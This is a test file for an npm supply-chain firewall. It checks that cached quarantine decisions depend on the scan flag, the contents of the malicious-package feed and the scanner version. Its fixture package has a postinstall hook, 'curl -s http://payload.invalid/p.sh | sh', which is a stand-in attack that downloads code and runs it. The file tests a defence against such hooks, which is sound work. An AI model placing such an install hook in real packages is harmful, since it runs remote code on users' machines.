import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { create } from 'tar';
import { startHostileUpstream, type HostileUpstream } from './hostile-upstream.js';
import { startFirewallProcess, writePolicy, type FirewallProcess } from './support.js';
import { openSqliteStore } from '../../helper/dist/firewall/sqlite-store.js';

const POLICY = 'version: 1\nrules:\n  - id: suspicious-code\n    when: { suspicious: high }\n    action: quarantine\n';

/** A real npm tarball (package/package.json) whose install script pipes a download into a shell. */
async function suspiciousTarball(): Promise<Buffer> {
  const dir = await mkdtemp(join(tmpdir(), 'sscs-tgz-'));
  await mkdir(join(dir, 'package'));
  await writeFile(join(dir, 'package', 'package.json'), JSON.stringify({ name: 'sus-cached', version: '1.0.0', scripts: { postinstall: 'curl -s http://payload.invalid/p.sh | sh' } }));
  const chunks: Buffer[] = [];
  for await (const c of create({ gzip: true, cwd: dir, portable: true }, ['package'])) chunks.push(c as Buffer);
  await rm(dir, { recursive: true });
  return Buffer.concat(chunks);
}

async function osvFeed(records: { id: string; name: string; version: string }[]): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'sscs-feed-'));
  for (const r of records) {
    await writeFile(join(dir, `${r.id}.json`), JSON.stringify({ schema_version: '1.5.0', id: r.id, modified: '2025-01-01T00:00:00Z', affected: [{ package: { ecosystem: 'npm', name: r.name }, versions: [r.version] }] }));
  }
  return dir;
}

describe('firewall: cached decisions are keyed by every decision input', () => {
  let up: HostileUpstream;
  let dataDir: string;
  const running: FirewallProcess[] = [];
  const start = async (args: string[]): Promise<FirewallProcess> => {
    await rm(join(dataDir, 'port.json'), { force: true });
    const fw = await startFirewallProcess({ policy: await writePolicy(POLICY), upstream: up.url, dataDir, args: ['--packument-ttl', '0', ...args] });
    running.push(fw);
    return fw;
  };
  const health = async (fw: FirewallProcess): Promise<{ policyVersion: string; decisionInputs: string }> => (await (await fetch(`${fw.url}/-/health`)).json()) as { policyVersion: string; decisionInputs: string };
  beforeAll(async () => {
    up = await startHostileUpstream();
    up.publish('sus-cached', '1.0.0', { tarball: await suspiciousTarball(), manifest: { scripts: { postinstall: 'curl -s http://payload.invalid/p.sh | sh' } } });
    dataDir = await mkdtemp(join(tmpdir(), 'sscs-fw-inputs-'));
  });
  afterAll(async () => {
    for (const fw of running) await fw.stop();
    await up?.close();
  });

  it('scans a tarball cached by a run without --scan before serving it with --scan', async () => {
    const plain = await start([]);
    const first = await fetch(`${plain.url}/sus-cached/-/sus-cached-1.0.0.tgz`);
    expect(first.status).toBe(200);
    await first.arrayBuffer();
    await plain.stop();
    const scanning = await start(['--scan']);
    const again = await fetch(`${scanning.url}/sus-cached/-/sus-cached-1.0.0.tgz`);
    expect(again.status).toBe(403);
    expect(again.headers.get('x-sscs-decision')).toBe('quarantine; rule=suspicious-code');
    await scanning.stop();
  });

  it('names the scan setting and the feed contents in the version decisions are cached under', async () => {
    const feedA = await osvFeed([{ id: 'MAL-2025-1', name: 'left-pad-evil', version: '1.0.0' }]);
    const feedB = await osvFeed([{ id: 'MAL-2025-1', name: 'left-pad-evil', version: '1.0.0' }, { id: 'MAL-2025-2', name: 'sus-cached', version: '1.0.0' }]);
    const versions: string[] = [];
    const policyVersions = new Set<string>();
    for (const args of [[], ['--scan'], ['--malicious-feed', feedA], ['--malicious-feed', feedA], ['--malicious-feed', feedB]]) {
      const fw = await start(args);
      const h = await health(fw);
      versions.push(h.decisionInputs);
      policyVersions.add(h.policyVersion);
      await fw.stop();
    }
    const [none, scan, a, aAgain, b] = versions;
    expect(new Set([none, scan, a, b]).size).toBe(4);
    expect(aAgain).toBe(a);
    // The policy file was the same each time: its own version is, and it is not the decision-inputs hash.
    expect(policyVersions.size).toBe(1);
    expect(versions).not.toContain([...policyVersions][0]);
  });

  it('does not judge a version on the findings of another scanner version', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'sscs-fw-scans-'));
    const store = await openSqliteStore(join(dir, 'firewall.db'));
    const finding = { rule: 'install-script-remote-code', severity: 'critical' as const, evidence: 'package.json' };
    await store.recordScan('old-scan', '1.0.0', [finding], true);
    expect(await store.scanFindings('old-scan', '1.0.0')).toEqual([finding]);
    await store.close();
    const { DatabaseSync } = await import('node:sqlite');
    const db = new DatabaseSync(join(dir, 'firewall.db'));
    db.exec(`UPDATE scans SET scanner = 'an-older-scanner'`);
    db.close();
    const reopened = await openSqliteStore(join(dir, 'firewall.db'));
    expect(await reopened.scanFindings('old-scan', '1.0.0')).toBeUndefined();
    await reopened.close();
  });
});
